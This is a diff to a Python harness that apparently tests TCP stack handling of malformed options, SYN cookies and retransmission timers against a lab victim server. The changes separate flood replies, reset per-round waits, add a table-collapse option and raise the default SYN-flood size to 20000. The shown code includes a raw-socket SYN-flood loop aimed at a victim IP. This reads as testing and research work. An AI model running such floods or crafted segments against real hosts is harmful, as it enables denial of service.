@@ -16,7 +16,7 @@ them with RSTs -- no firewall is needed -- while the AF_PACKET socket still
 sees them.
 
   attack --role server|client ...   run the variants (see --help)
-  table [--hz N] [--floor-ms MS] [--ceiling-ms MS]
+  table [--hz N] [--floor-ms MS] [--ceiling-ms MS] [--collapse]
                                     print the variant table as markdown
   report FILE...                    the totals of attack results (JSON)
   hold PORT                         victim server: accept, say hello, hold
@@ -49,6 +49,7 @@ import time
 # ------------------------------------------------------------------ codecs
 
 NOP, EOL = 1, 0
+FLOOD_PORT = 40000      # the flood's source ports start here
 TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
 
 
@@ -445,7 +446,9 @@ class Wire:
         self.inp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
         self.inp.bind((iface, 0x0800))
         self.mine = set(mine)
-        self.segs = []
+        self.segs = []          # what answers our connections (ports < FLOOD_PORT)
+        self.flood_answers = 0  # SYN-ACKs to the flood's ports, counted only
+        self.mark = 0           # wait() looks at segments from here on
         self.cv = threading.Condition()
         self.sent = 0
         threading.Thread(target=self._rx, daemon=True).start()
@@ -459,8 +462,16 @@ class Wire:
             if s is None or s.dst not in self.mine:
                 continue
             with self.cv:
+                if s.dport >= FLOOD_PORT:
+                    self.flood_answers += 1
+                    continue
                 self.segs.append(s)
                 self.cv.notify_all()
+
+    def new_round(self):
+        """Later waits see only what arrives from now on."""
+        with self.cv:
+            self.mark = len(self.segs)
 
     def send(self, src, dst, sport, dport, seq, ack, flags, opts=b"", payload=b""):
         self.out.sendto(segment(src, dst, sport, dport, seq, ack, flags, opts, payload), (dst, 0))
@@ -468,8 +479,8 @@ class Wire:
 
     def wait(self, pred, timeout=3.0):
         end = time.monotonic() + timeout
-        i = 0
         with self.cv:
+            i = self.mark
             while True:
                 while i < len(self.segs):
                     if pred(self.segs[i]):
@@ -479,10 +490,6 @@ class Wire:
                 if left <= 0:
                     return None
                 self.cv.wait(left)
-
-    def count(self, pred):
-        with self.cv:
-            return sum(1 for s in self.segs if pred(s))
 
 
 # ---------------------------------------------------------------- the run
@@ -657,7 +664,7 @@ class Attack:
         t0 = time.monotonic()
         for i in range(n):
             opt = pad(D.opt(200 if i % 2 == 0 else 0))
-            w.send(src, self.victim_ip, 40000 + i % 20000, self.port, random.getrandbits(32), 0,
+            w.send(src, self.victim_ip, FLOOD_PORT + i % 20000, self.port, random.getrandbits(32), 0,
                    TH_SYN, opt)
             lag = t0 + (i + 1) / rate - time.monotonic()
             if lag > 0:
@@ -674,6 +681,7 @@ class Attack:
             raise Failure(f"{n} SYNs sent, {cookies} cookies: the flood lost SYNs")
         return {"syns": n, "seconds": round(secs, 2), "cookies": cookies}
 
+
     def nstat(self, name):
         out = self.sh("nstat", "-asz", name)
         for line in out.splitlines():
@@ -687,6 +695,7 @@ class Attack:
         sport = self.next_port
         self.next_port += 1
         before = self.counters()
+        self.wire.new_round()
         if v.cookies is not None:
             self.sysctl("net.ipv4.tcp_syncookies", v.cookies)
         extra = {}
@@ -777,11 +786,25 @@ def cmd_table(a):
     s = {"hz": a.hz, "rto_floor_us": int(a.floor_ms * 1000),
          "rto_ceiling_us": int(a.ceiling_ms * 1000), "advertised_us": 0}
     pol = Policy(s)
-    print("| variant | segments (option bytes in hex) | handling | delack counters | victim RTO |")
-    print("| --- | --- | --- | --- | --- |")
+    rows = []
     for v in variants(pol, pol, a.flood):
         name, target, segs, handling, exp, rto = v.row()
-        print(f"| `{name}` | {segs} | {handling} | {exp} | {rto} |")
+        last = rows[-1] if rows else None
+        # --collapse: consecutive variants of one family with the same
+        # handling and expectations become one row (len-8 .. len-16).
+        if a.collapse and last and last[5] == v.family == "length" and \
+                last[2:5] == [handling, exp, rto]:
+            last[0][1] = name
+            if not last[1].endswith(" …"):
+                last[1] += " …"
+            continue
+        rows.append([[name, name], segs, handling, exp, rto, v.family])
+    print("| variant | segments (option bytes in hex) | handling | delack counters | victim RTO |")
+    print("| --- | --- | --- | --- | --- |")
+    for (first, last), segs, handling, exp, rto, _ in rows:
+        name = f"`{first}`" if first == last else f"`{first}` … `{last.split(':')[1]}`"
+        print(f"| {name} | {segs} | {handling} | {exp} | {rto} |")
+    print(f"\n{sum(1 for v in variants(pol, pol, a.flood))} variants.")
     return 0
 
 
@@ -1004,7 +1027,9 @@ def main():
     tb.add_argument("--hz", type=int, default=250)
     tb.add_argument("--floor-ms", type=float, default=30)
     tb.add_argument("--ceiling-ms", type=float, default=150)
-    tb.add_argument("--flood", type=int, default=1000)
+    tb.add_argument("--flood", type=int, default=20000)
+    tb.add_argument("--collapse", action="store_true",
+                    help="one row for a run of wrong lengths handled alike")
     rp = sub.add_parser("report")
     rp.add_argument("files", nargs="+")
     h = sub.add_parser("hold")
